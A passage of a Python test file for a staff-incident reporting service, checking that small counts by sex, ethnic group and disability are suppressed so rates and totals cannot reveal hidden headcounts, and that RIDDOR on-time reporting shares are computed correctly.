    # Read against women and men in post: 11 of 500 women, 5 of 1,000 men.
    assert ind["sexual_safety_staff_affected_per_1000_by_sex"] == {"female": 22.0, "male": 5.0}
    assert ind["staff_affected_per_1000_by_sex"] == {"female": 22.0, "male": 12.0}
    # January's breakdowns are the same people: February, with none, has no sexual safety rows.
    assert body["months"][0]["breakdowns"]["sexual_safety_staff_by_sex"] == {"female": 11, "male": 5}
    assert "sexual_safety_staff_by_sex" not in body["months"][1]["breakdowns"]


def test_a_small_sexual_safety_cell_is_hidden_with_what_would_give_it_back():
    woman, man = (Staff("nursing_midwifery", "white", False, False, sex=s) for s in ("female", "male"))
    body = build([jan(category="sexual_misconduct", staff=(woman,)) for _ in range(9)]
                 + [jan(category="sexual_misconduct", staff=(man,)) for _ in range(2)])
    by = body["totals"]["breakdowns"]
    assert by["sexual_safety_staff_by_sex"] == {"female": SUPPRESSED, "male": SUPPRESSED}
    assert by["staff_affected_by_category"] == {"sexual_misconduct": 11}


def test_riddor_on_time_share_is_of_every_reportable_incident_reported_or_not():
    off = Staff("ambulance", "white", True, False, True)
    on_time = [jan(staff=(off,), riddor_reported_at=JAN + timedelta(days=10)) for _ in range(6)]
    late = [jan(staff=(off,), riddor_reported_at=JAN + timedelta(days=30)) for _ in range(2)]
    unreported = [jan(staff=(off,)) for _ in range(2)]
    totals = build(on_time + late + unreported, raw=True)["totals"]
    assert totals["breakdowns"]["riddor_reported"] == {"all": 8, "within_15_days": 6}
    assert totals["indicators"]["riddor_reported_on_time_share"] == 0.6


JUNE = Window("2025-06", datetime(2025, 5, 31, 23, tzinfo=UTC), datetime(2025, 6, 30, 23, tzinfo=UTC))


def _june(on_time: int, pending: int, now: datetime, raw: bool = True) -> dict:
    """June 2025 with over-7-day incidents reported in time, and others on 24 to 30 June not yet
    reported, whose 15 days run out between 9 and 15 July."""
    off = Staff("ambulance", "white", True, False, True)
    early, reported = datetime(2025, 6, 2, 9, tzinfo=UTC), datetime(2025, 6, 7, 9, tzinfo=UTC)
    facts = [fact(occurred_at=early, staff=(off,), riddor_reported_at=reported) for _ in range(on_time)]
    facts += [fact(occurred_at=datetime(2025, 6, 24 + 2 * i % 7, 9, tzinfo=UTC), staff=(off,)) for i in range(pending)]
    disclosure = Disclosure(5, raw)
    board = compute(Inputs(facts, [], {}, now=now), [JUNE], Window("total", JUNE.start, JUNE.end), disclosure)
    return view(board, disclosure, {})["totals"]


@pytest.mark.parametrize(("now", "share"), [
    (datetime(2025, 7, 4, 9, tzinfo=UTC), 1.0),     # published with 3 days' grace: none of the four is late yet
    (datetime(2025, 7, 12, 9, tzinfo=UTC), 0.714),  # 24 and 26 June's have run out (5 of 7)...
    (datetime(2025, 7, 16, 9, tzinfo=UTC), 0.556),  # ...and by 16 July all four: 5 of 9
    (None, 0.556),
])
def test_riddor_incidents_not_yet_reported_count_as_late_only_once_their_fifteen_days_run_out(now, share):
    totals = _june(5, 4, now)
    assert totals["breakdowns"]["riddor_reportable"] == {"over_7_day_incapacity": 9}
    assert totals["indicators"]["riddor_reported_on_time_share"] == share


def test_a_riddor_share_leaving_out_a_few_incidents_still_pending_is_hidden_as_their_count_is():
    # 5 of 9 reportable shown, 5 on time and a share of 1.0 would give back the 4 still pending.
    july_4 = datetime(2025, 7, 4, 9, tzinfo=UTC)
    few = _june(5, 4, july_4, raw=False)
    assert few["breakdowns"]["riddor_pending"] == {"within_15_days": SUPPRESSED}
    assert few["indicators"]["riddor_reported_on_time_share"] == SUPPRESSED
    many = _june(5, 7, july_4, raw=False)
    assert many["breakdowns"]["riddor_pending"] == {"within_15_days": 7}
    assert many["indicators"]["riddor_reported_on_time_share"] == 1.0


def _staff(group: str, disability: str = "not_stated") -> Staff:
    return Staff("ambulance", group, False, False, disability=disability)


def _heads(**groups: int) -> dict[tuple[str, str, str, str], int]:
    return {("ambulance", g, "disabled" if g == "black" else "not_disabled", "not_stated"): n
            for g, n in groups.items()}


# 2 Black staff in post, affected 6 times between them: the count is shown, so the rate
# (3,000 per 1,000) would give back that 2 people are in post, and who they are.
FEW = dict(white=1000, black=2, asian=300, mixed=100, other=100)


def _affected(**times: int) -> list:
    return [jan(staff=(_staff(g),)) for g, n in times.items() for _ in range(n)]


def test_a_rate_over_fewer_staff_in_post_than_the_threshold_is_suppressed_raw_reads_stay_exact():
    incidents = _affected(white=20, black=6, asian=9, mixed=7, other=8)
    shown = build(incidents, heads=_heads(**FEW))["totals"]["indicators"]
    assert shown["staff_affected_per_1000_by_ethnic_group"]["black"] == SUPPRESSED
    assert shown["staff_affected_per_1000_by_ethnic_group_and_disability"]["black/disabled"] == SUPPRESSED
    assert shown["staff_affected_per_1000_by_ethnic_group"]["white"] == 20.0
    raw = build(incidents, raw=True, heads=_heads(**FEW))["totals"]["indicators"]
    assert raw["staff_affected_per_1000_by_ethnic_group"]["black"] == 3000.0


def test_a_small_headcount_is_not_given_back_by_the_rates_made_from_its_sums():
    from services.reporting.domain.disclosure import Relation

    incidents = _affected(white=20, black=6, asian=9, mixed=7, other=8)
    ind = build(incidents, heads=_heads(**FEW))["totals"]["indicators"]
    # What a reader learns: a headcount for every rate shown beside its count.
    by_group = ind["staff_affected_per_1000_by_ethnic_group"]
    shown = {("ethnic_group", g) for g, rate in by_group.items() if rate != SUPPRESSED}
    for key, rate in ((("ethnic_group", "minority"), ind["ethnic_minority_staff_affected_per_1000"]),
                      (("all", "all"), ind["incidents_per_1000_staff"])):
        shown |= {key} if rate != SUPPRESSED else set()
    groups = [("ethnic_group", g) for g in FEW]
    relations = [Relation(tuple(groups), ("all", "all")),
                 Relation(tuple(("ethnic_group", g) for g in ("asian", "black", "mixed", "other")),
                          ("ethnic_group", "minority"))]
    hidden = {*groups, ("ethnic_group", "minority"), ("all", "all")} - shown
    assert ("ethnic_group", "black") in hidden
    assert ("ethnic_group", "black") not in given_back(relations, hidden)


def _bans(imposed_in_feb: int) -> list:
    # 10 bans running since December (to the end of the year), and more imposed in February.
    dec = JAN - timedelta(days=10)
    year = timedelta(days=365)
    return ([decision("ban_imposed", dec, starts_at=dec, ends_at=dec + year) for _ in range(10)]
            + [decision("ban_imposed", FEB + timedelta(days=2), starts_at=FEB + timedelta(days=2),
                        ends_at=FEB + year) for _ in range(imposed_in_feb)])


def _stocks(body) -> list:
    return [row["indicators"]["active_bans_at_period_end"] for row in [*body["months"], body["totals"]]]


@pytest.mark.parametrize(("imposed_in_feb", "expected"), [
    # 13 - 10 would give back the 3 bans imposed in February, which are hidden.
    (3, [SUPPRESSED, SUPPRESSED, 13]),
    # Every ban imposed, expired or rescinded is shown: so are the stocks.
    (6, [10, 16, 16]),
    (0, [10, 10, 10]),
])
def test_month_end_bans_in_force_do_not_give_back_a_hidden_count_of_bans_imposed(imposed_in_feb, expected):
    body = build([], _bans(imposed_in_feb))
    assert _stocks(body) == expected
    assert _stocks(build([], _bans(imposed_in_feb), raw=True))[:2] == [10, 10 + imposed_in_feb]


@pytest.mark.parametrize(("expiring_in_feb", "expected"), [
    # 10 in force at January's end, 7 ended in February: the 3 left, hidden, would be 10 - 7.
    (7, [SUPPRESSED, SUPPRESSED, SUPPRESSED]),
    (5, [10, 5, 5]),
])
def test_a_hidden_month_end_count_of_bans_in_force_is_not_given_back_by_the_stock_beside_it(expiring_in_feb,
                                                                                            expected):
    bans = _bans(0)
    ended = [decision("ban_expired", FEB + timedelta(days=5), sanction_id=b.sanction_id,
                      incident_id=b.incident_id) for b in bans[:expiring_in_feb]]
    body = build([], bans + ended)
    assert body["months"][1]["breakdowns"]["sanctions"]["ban_expired"] == expiring_in_feb
    assert _stocks(body) == expected
    assert _stocks(build([], bans + ended, raw=True)) == [10, 10 - expiring_in_feb, 10 - expiring_in_feb]


def _rates_hidden(row) -> set[str]:
    """The rates per 1,000 a row hides, by name: what a reader cannot take a headcount from."""
    ind = row["indicators"]
    named = {f"ethnic:{g}": v for g, v in ind["staff_affected_per_1000_by_ethnic_group"].items()}
    named |= {f"sex:{s}": v for s, v in ind["staff_affected_per_1000_by_sex"].items()}
    named |= {"minority": ind["ethnic_minority_staff_affected_per_1000"],
              "white": ind["white_staff_affected_per_1000"], "all": ind["incidents_per_1000_staff"]}
    return {name for name, v in named.items() if v == SUPPRESSED}


def test_every_row_hides_the_same_headcounts_so_months_and_period_give_none_back_together():
    # 4 Asian women in post: the period's crossed cells hide the men's headcount, and a month
    # showing it beside the minority rate would give 104 - 100 = 4 back.
    heads = {("ambulance", "white", "not_stated", "female"): 20,
             ("ambulance", "asian", "not_stated", "female"): 4,
             ("ambulance", "black", "not_stated", "male"): 100}
    staff = {"black": Staff("ambulance", "black", False, False, sex="male"),
             "white": Staff("ambulance", "white", False, False, sex="female")}
    incidents = [month(staff=(staff[g],)) for month in (jan, feb) for g, n in (("black", 10), ("white", 6))
                 for _ in range(n)]
    body = build(incidents, heads=heads)
    hidden = [_rates_hidden(row) for row in [*body["months"], body["totals"]]]
    assert "ethnic:asian" in hidden[0] and hidden[0] == hidden[1] == hidden[2]


@pytest.mark.parametrize(("site", "says"), [(None, "loaded for RJ7, whose"), ("Main", "loaded for RJ7 at this site")])
def test_the_pack_says_why_no_rate_is_given_where_an_organisation_has_no_workforce(site, says):
    body = build(sample()) | {"objectives": [], "site": site}
    assert "No rate per 1,000" not in render(body | {"workforce_missing": []})
    assert says in render(body | {"workforce_missing": ["RJ7"]})
